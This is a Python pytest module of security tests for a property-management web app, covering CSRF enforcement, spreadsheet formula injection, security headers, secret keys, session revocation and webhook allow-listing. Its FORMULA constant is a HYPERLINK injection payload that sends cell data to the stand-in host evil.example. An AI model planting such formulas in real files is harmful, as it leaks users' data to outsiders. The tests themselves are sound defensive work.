"""Issue 8: nothing can be forged, nothing survives what should end it.

- every state-changing request carried by the session cookie alone needs the CSRF token: every
  POST/PUT/PATCH/DELETE rule of the URL map, screens and APIs, walked without one (items 4);
- every spreadsheet the product writes keeps user text as text, never a live formula (item 5);
- security headers on every kind of answer, with a policy that names no outside host (item 6);
- no start-up with a missing, short or published secret key (item 7);
- sign-out, a password change and disabling a user end the user's sessions, and a password change
  ends the API tokens issued before it (item 8);
- robot webhooks only to https on 443 of an allowed host, unless a port is allowed (item 10);
- a 405 keeps its ``Allow`` header (issue 9 item 21).
"""

from __future__ import annotations

import io
import re
import uuid

import pytest
from openpyxl import load_workbook

from tests import conftest as cf
from views.registry import REGISTRY

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _make_app(database_url, **extra):
    from app import create_app

    return create_app(cf.desk_test_config(database_url, SYNC_ROLES_ON_START=False, **extra))


@pytest.fixture()
def csrf_app(app, database_url):
    return _make_app(database_url, WTF_CSRF_ENABLED=True)


def _token_of(html: str) -> str:
    m = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html) or re.search(r'id="csrf_token"[^>]*value="([^"]+)"', html)
    assert m, "no csrf_token in the page"
    return m.group(1)


def _form_login(client, username="admin"):
    token = _token_of(client.get("/login/").get_data(as_text=True))
    resp = client.post("/login/", data={"username": username, "password": cf.PASSWORD, "csrf_token": token})
    assert resp.status_code == 302, resp.get_data(as_text=True)[:300]
    return token


# --- item 4: CSRF ----------------------------------------------------------------------------------
def _unsafe_rules(app):
    for rule in app.url_map.iter_rules():
        methods = sorted(rule.methods & {"POST", "PUT", "PATCH", "DELETE"})
        if methods and not rule.rule.startswith("/static"):
            yield rule, methods


def _fill(rule) -> str:
    return re.sub(r"<(?:[a-z]+:)?([a-z_]+)>", lambda m: "1" if m.group(1) not in ("name", "filename") else "x", rule.rule)


def test_every_write_carried_by_the_cookie_alone_is_refused(csrf_app, make_unit):
    """Logged in by form as Admin (who may do anything), every unsafe route of the product and of
    FAB, screens and APIs, answered without the token: 400, and nothing written."""
    from sqlalchemy import func, select

    from app.extensions import db
    from models.base import ChangeLog

    client = csrf_app.test_client()
    _form_login(client)
    with csrf_app.app_context():
        before = db.session.execute(select(func.count()).select_from(ChangeLog)).scalar()
    walked = 0
    for rule, methods in _unsafe_rules(csrf_app):
        url = _fill(rule)
        for method in methods:
            for kind in ("json", "form", "multipart"):
                kw = {
                    "json": {"json": {"version": 1, "to": "closed"}},
                    "form": {"data": {"version": "1", "to": "closed"}},
                    "multipart": {"data": {"document": (io.BytesIO(b"%PDF-1.4"), "a.pdf")}, "content_type": "multipart/form-data"},
                }[kind]
                resp = client.open(url, method=method, **kw)
                assert resp.status_code == 400, f"{method} {url} ({kind}) by cookie without a token: {resp.status_code}"
                assert "CSRF" in resp.get_data(as_text=True), f"{method} {url}: refused, but not for the token"
                walked += 1
    with csrf_app.app_context():
        after = db.session.execute(select(func.count()).select_from(ChangeLog)).scalar()
    assert after == before
    assert walked > 300, walked  # every rule, not a handful
    print(f"\ncsrf walk: {walked} cookie-carried writes without a token, all refused")


def test_the_reported_approvals_need_the_token_and_work_with_it(csrf_app, app, api, tmp_path):
    """The reported cases: declare (multipart) and approve (url-encoded) a fee standard through the
    API with a Manager's cookie. Refused without the token; with it (header), the write goes on."""
    from tests.test_fees import new_item, new_standard

    ids_estate = api("Manager").post("/api/v1/estate/", json={"code": f"C{uuid.uuid4().hex[:6]}", "name": "跨站"}).json["id"]
    pk = new_standard(api, new_item(api), ids_estate)
    client = csrf_app.test_client()
    token = _form_login(client, "manager")
    resp = client.post(
        f"/api/v1/fee_standard/{pk}/declare",
        data={"document": (io.BytesIO(b"%PDF-1.4 basis"), "basis.pdf")},
        content_type="multipart/form-data",
    )
    assert resp.status_code == 400
    resp = client.post(f"/api/v1/fee_standard/{pk}/approve", data={"x": "1"})
    assert resp.status_code == 400
    assert api("Manager").get(f"/api/v1/fee_standard/{pk}").json["result"]["status"] == "draft"
    # The same request with the page's token is the user's own: not refused for CSRF.
    csrf_app.config["INSTANCE_DIR"] = str(tmp_path)
    resp = client.post(
        f"/api/v1/fee_standard/{pk}/declare",
        data={"document": (io.BytesIO(b"%PDF-1.4 basis"), "basis.pdf")},
        content_type="multipart/form-data",
        headers={"X-CSRFToken": token},
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]


def test_a_bearer_token_needs_no_csrf_token(csrf_app, tokens):
    client = csrf_app.test_client()
    resp = client.post(
        "/api/v1/estate/",
        json={"code": f"B{uuid.uuid4().hex[:6]}", "name": "令牌写入"},
        headers={"Authorization": f"Bearer {tokens['Manager']}"},
    )
    assert resp.status_code == 201, resp.get_data(as_text=True)[:300]


# --- item 5: formulas ------------------------------------------------------------------------------
def test_no_spreadsheet_ever_holds_a_formula(scene_app, scene_tokens, scene):
    """User text that starts like a formula, in an owner, a complaint and a renovation; then every
    .xlsx the app serves (exports of every resource, registers, reports, templates), as Admin:
    no cell is a formula, and the text is kept as typed. (On the shared scene's database: small,
    so that exporting every list stays quick.)"""
    from sqlalchemy import select

    from app.extensions import db
    from models.archives import Unit
    from tests.scene import api_client
    from tests.test_renovation import application

    app = scene_app
    api = api_client(app, scene_tokens["Admin"])
    with app.app_context():
        unit_id = db.session.execute(select(Unit.id).order_by(Unit.id)).scalars().first()
        db.session.remove()
    owner = api.post("/api/v1/owner/", json={"name": FORMULA, "kind": "company", "phone": "13812345678"})
    assert owner.status_code == 201, owner.get_data(as_text=True)
    ticket = api.post(
        "/api/v1/ticket/",
        json={"kind": "complaint", "channel": "phone", "unit": unit_id, "description": FORMULA, "visitor_name": "@SUM(1+1)"},
    )
    assert ticket.status_code == 201, ticket.get_data(as_text=True)
    reno = api.post("/api/v1/renovation/", json=application(unit_id, contractor=FORMULA))
    assert reno.status_code in (201, 422), reno.get_data(as_text=True)  # one live renovation per unit
    if reno.status_code == 422:
        with app.app_context():
            from models.renovation import Renovation

            r = db.session.execute(select(Renovation).where(Renovation.unit_id == unit_id)).scalars().first()
            r.contractor = FORMULA  # the scene's renovation carries the text instead
            db.session.commit()
            db.session.remove()

    from models.fees import local_today

    today = local_today().isoformat()  # the office's day: reports and registers count local dates
    client = cf.FreshContextClient(app, app.test_client())
    assert client.post("/login/", data={"username": "admin", "password": cf.PASSWORD}).status_code == 302
    urls = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.arguments:
            continue
        if rule.rule.endswith(("/export", ".xlsx")):
            name = rule.rule.strip("/").split("/")[0] if "/import/" in rule.rule else None
            if name is not None and REGISTRY[name].importer is None:
                continue  # served for every screen, a 404 where the list has no import
            urls.add(rule.rule)
    assert len(urls) > 30, urls
    seen_formula_text = 0
    for url in sorted(urls):
        q = f"?from={today}&to={today}&register=complaint" if "register" in url else ""
        resp = api.get(url) if url.startswith("/api/") else client.get(url + q)
        assert resp.status_code == 200, (url, resp.status_code)
        wb = load_workbook(io.BytesIO(resp.get_data()))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{url}: a live formula in {ws.title}!{cell.coordinate}: {cell.value}"
                    if cell.value == FORMULA:
                        seen_formula_text += 1
                        assert cell.quotePrefix, f"{url}: {cell.coordinate} would turn into a formula when edited"
    assert seen_formula_text >= 3  # the owner, the complaint register, the renovation export


# --- item 6: headers --------------------------------------------------------------------------------
def test_every_answer_carries_the_security_headers(app, web, api):
    for resp in (
        app.test_client().get("/login/"),
        web("Staff").get("/ticket/list/"),
        api("Staff").get("/api/v1/ticket/"),
        app.test_client().get("/no/such/page"),
    ):
        h = resp.headers
        assert h.get("X-Frame-Options") == "DENY"
        assert h.get("X-Content-Type-Options") == "nosniff"
        assert h.get("Referrer-Policy") == "strict-origin-when-cross-origin"
        csp = h.get("Content-Security-Policy", "")
        assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
        assert "default-src 'self'" in csp
        # Only the product itself: no host name, no scheme wildcard, no inline script without nonce.
        assert not re.search(r"https?:|\*|unsafe-eval", csp), csp
        assert "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";")[0]


def test_pages_scripts_carry_the_pages_nonce(web):
    resp = web("Staff").get("/ticket/list/")
    nonce = re.search(r"'nonce-([^']+)'", resp.headers["Content-Security-Policy"]).group(1)
    page = resp.get_data(as_text=True)
    scripts = re.findall(r"<script[^>]*>", page)
    assert scripts and all(f'nonce="{nonce}"' in s for s in scripts), scripts
    assert not re.search(r"\son[a-z]+=", page), "an inline event handler the policy would block"


# --- item 7: the secret key -------------------------------------------------------------------------
@pytest.mark.parametrize(
    "key",
    ["", "change-me-in-production-this-is-only-for-the-embedded-demo", "\2\1thisismyscretkey\1\2\\e\\y\\y\\h", "short-key"],
)
def test_start_up_refuses_a_missing_published_or_short_key(tmp_path, key):
    from app import create_app

    cfg = {"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}", "SECRET_KEY": key, "SECRET_KEY_FILE": str(tmp_path / "none")}
    with pytest.raises(RuntimeError, match="DESK_SECRET_KEY"):
        create_app(cfg)


def test_the_quick_starts_key_file_is_used(tmp_path):
    from app import create_app

    key = "k" * 48
    (tmp_path / "secret_key").write_text(key + "\n")
    app = create_app(
        {"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}", "SECRET_KEY": "", "SECRET_KEY_FILE": str(tmp_path / "secret_key")}
    )
    assert app.config["SECRET_KEY"] == key


# --- item 8: sessions -------------------------------------------------------------------------------
def _copy_cookie(src, dst) -> None:
    cookie = src.get_cookie("session")
    assert cookie is not None
    dst.set_cookie("session", cookie.value)


@pytest.fixture()
def person(app):
    """A fresh Staff user (so ending its sessions touches nobody else's)."""
    from app.extensions import db
    from app.seed import ensure_user

    name = f"p{uuid.uuid4().hex[:8]}"
    with app.app_context():
        user = ensure_user(app.appbuilder.sm, name, "Staff", "临时", "员工", cf.PASSWORD)
        uid = user.id
        db.session.remove()
    return name, uid


def _signed_in(app, name):
    client = app.test_client()
    resp = client.post("/login/", data={"username": name, "password": cf.PASSWORD})
    assert resp.status_code == 302
    assert client.get("/ticket/list/").status_code == 200
    return client


def test_a_cookie_saved_before_sign_out_opens_nothing_after(app, person):
    client = _signed_in(app, person[0])
    thief = app.test_client()
    _copy_cookie(client, thief)
    assert thief.get("/ticket/list/").status_code == 200
    client.get("/logout/")
    resp = thief.get("/ticket/list/")
    assert resp.status_code in (302, 401, 403) and "/login/" in resp.headers.get("Location", "/login/")


def test_sign_out_ends_one_session_not_the_users_others(app, person):
    first, second = _signed_in(app, person[0]), _signed_in(app, person[0])
    first.get("/logout/")
    assert second.get("/ticket/list/").status_code == 200


@pytest.mark.parametrize("how", ["password", "disabled"])
def test_a_password_change_or_disabling_ends_every_session_and_token(app, person, how):
    from app.extensions import db

    name, uid = person
    client = _signed_in(app, name)
    token = app.test_client().post(
        "/api/v1/security/login", json={"username": name, "password": cf.PASSWORD, "provider": "db"}
    ).json["access_token"]
    with app.app_context():
        sm = app.appbuilder.sm
        if how == "password":
            sm.reset_password(uid, "Another-Pass-987")
        else:
            user = sm.get_user_by_id(uid)
            user.active = False
            db.session.commit()
        db.session.remove()
    assert client.get("/ticket/list/").status_code != 200
    resp = app.test_client().get("/api/v1/ticket/", headers={"Authorization": f"Bearer {token}"})
    assert resp.status_code == 401


# --- item 10: webhooks ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=1", True),
        ("https://QYAPI.WEIXIN.QQ.COM:443/cgi-bin/webhook/send?key=1", True),
        ("http://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=1", False),  # not https
        ("https://QYAPI.WEIXIN.QQ.COM:5432/", False),  # another port of an allowed host
        ("https://qyapi.weixin.qq.com:99999/", False),  # not a port at all
        ("https://user:pw@qyapi.weixin.qq.com/", False),
        ("https://qyapi.weixin.qq.com.evil.example/", False),
        ("ftp://oapi.dingtalk.com/", False),
        ("http://127.0.0.1:8080/hook", True),  # the test robots' entry allows loopback on any port
    ],
)
def test_webhooks_go_to_https_443_of_allowed_hosts_only(app, url, ok):
    from models.desk import webhook_host_allowed

    app.config["WEBHOOK_ALLOWED_HOSTS"] = "qyapi.weixin.qq.com,oapi.dingtalk.com,127.0.0.1:*"
    try:
        with app.app_context():
            assert webhook_host_allowed(url) is ok
    finally:
        app.config["WEBHOOK_ALLOWED_HOSTS"] = cf.desk_test_config("x")["WEBHOOK_ALLOWED_HOSTS"]


# --- issue 9 item 21: 405 keeps Allow ---------------------------------------------------------------
def test_a_405_says_what_is_allowed(api, web):
    resp = api("Staff").post("/api/v1/ticket/_info", json={})
    assert resp.status_code == 405 and "GET" in resp.headers.get("Allow", "")
    assert resp.is_json
    resp = web("Staff").put("/ticket/list/")
    assert resp.status_code == 405 and "GET" in resp.headers.get("Allow", "")
